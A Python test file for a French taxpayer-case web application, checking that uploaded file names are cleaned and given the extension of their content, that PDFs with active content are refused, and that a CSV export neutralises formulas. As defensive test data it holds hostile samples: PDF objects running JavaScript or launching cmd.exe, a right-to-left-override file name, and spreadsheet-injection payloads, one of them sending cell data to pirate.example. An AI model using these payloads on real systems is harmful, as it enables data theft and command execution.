"""Issue 20, findings 13 and 14: a file is stored under a name with the extension of the type
found in its content, without direction or control characters; a PDF with active content is
refused in French; the steering export writes no live spreadsheet formula. (Finding 12, the
antivirus, is tests/test_clamd.py: a real clamd.)"""

# ruff: noqa: F811 - fixtures imported from other test modules are used as parameters

from __future__ import annotations

import io
import zlib
from datetime import timedelta
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select
from test_steering import Dataset, client_for, csv_rows, dataset, url  # noqa: F401 (fixture)
from test_taxpayer_space import DATA, case_count, good_case, post_case, topics  # noqa: F401

from models import Attachment, Topic, Transfer, db, utcnow

PDF = (DATA / "avis.pdf").read_bytes()


def with_object(extra: bytes) -> bytes:
    """avis.pdf with one more object before its end (enough for a reader and for our check)."""
    return PDF.replace(b"%%EOF", extra + b"\n%%EOF")


def upload(client: FlaskClient, topics: dict[str, Topic], name: str, content: bytes) -> Any:
    return post_case(client, good_case(topics, files=[(io.BytesIO(content), name)]))


def stored_names() -> list[str]:
    db.session.expire_all()
    return list(db.session.scalars(select(Attachment.filename).order_by(Attachment.id)))


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("page.html", "page.pdf"),  # a PDF under an HTML name
        ("facture\u202efdp.exe", "facturefdp.pdf"),  # reads "factureexe.pdf" in some views
        ("relevé\u200f\u2066.pdf", "relevé.pdf"),
        ("scan", "scan.pdf"),
        ("avis.PDF", "avis.PDF"),
    ],
)
def test_finding_13_the_stored_name_has_the_extension_of_the_content(
    taxpayer_client: FlaskClient,
    topics: dict[str, Topic],
    app_context: None,
    sent: str,
    kept: str,
) -> None:
    response = upload(taxpayer_client, topics, sent, PDF)
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    assert stored_names() == [kept]


ACTIVE_PDFS = {
    "openaction-javascript": with_object(
        b"9 0 obj << /Type /Action /S /JavaScript /JS (app.alert('pirate')) >> endobj"
        b"\n10 0 obj << /OpenAction 9 0 R >> endobj"
    ),
    "hex-escaped-name": with_object(b"9 0 obj << /S /J#61vaScript /JS (this.print()) >> endobj"),
    "additional-action-launch": with_object(
        b"9 0 obj << /AA << /O << /S /Launch /F (cmd.exe) >> >> >> endobj"
    ),
    "embedded-file": with_object(b"9 0 obj << /Names << /EmbeddedFiles 10 0 R >> >> endobj"),
}


def _in_object_stream(body: bytes) -> bytes:
    packed = zlib.compress(body)
    return with_object(
        b"9 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(packed)).encode()
        + b" >>\nstream\n"
        + packed
        + b"\nendstream\nendobj"
    )


ACTIVE_PDFS["javascript-in-object-stream"] = _in_object_stream(
    b"10 0 << /S /JavaScript /JS (app.launchURL('x')) >>"
)


@pytest.mark.parametrize("name", sorted(ACTIVE_PDFS))
def test_finding_13_a_pdf_with_active_content_is_refused_in_french(
    taxpayer_client: FlaskClient, topics: dict[str, Topic], app_context: None, name: str
) -> None:
    response = upload(taxpayer_client, topics, "avis.pdf", ACTIVE_PDFS[name])
    assert response.status_code == 400
    page = response.get_data(as_text=True).replace("&#39;", "'")
    assert "contient des éléments actifs" in page and "Imprimer en PDF" in page
    assert case_count() == 0 and stored_names() == []


def test_a_plain_pdf_is_still_accepted(
    taxpayer_client: FlaskClient, topics: dict[str, Topic], app_context: None
) -> None:
    assert upload(taxpayer_client, topics, "avis.pdf", PDF).status_code == 302
    assert stored_names() == ["avis.pdf"]


def test_finding_14_the_steering_export_writes_no_formula(app: Flask, dataset: Dataset) -> None:
    w = dataset.world
    case = dataset.cases["B1"]
    db.session.add(
        Transfer(
            case=case,
            from_office=w.office_a,
            to_office=w.office_b,
            reason='=HYPERLINK("https://pirate.example/?"&A1;"Cliquez")',
            created_at=utcnow() - timedelta(days=1),
        )
    )
    db.session.add(
        Transfer(
            case=case,
            from_office=w.office_a,
            to_office=w.office_b,
            reason="@SUM(1+1)*cmd|' /C calc'!A0",
            created_at=utcnow() - timedelta(days=1),
        )
    )
    db.session.commit()
    client = client_for(app, w.manager_a)
    rows = csv_rows(client, url(w.office_a, dataset, "motifs-transmission"))
    reasons = [row[-1] for row in rows[1:]]
    assert '\'=HYPERLINK("https://pirate.example/?"&A1;"Cliquez")' in reasons
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in reasons
    assert not any(cell[:1] in "=+-@" for row in rows for cell in row if cell)
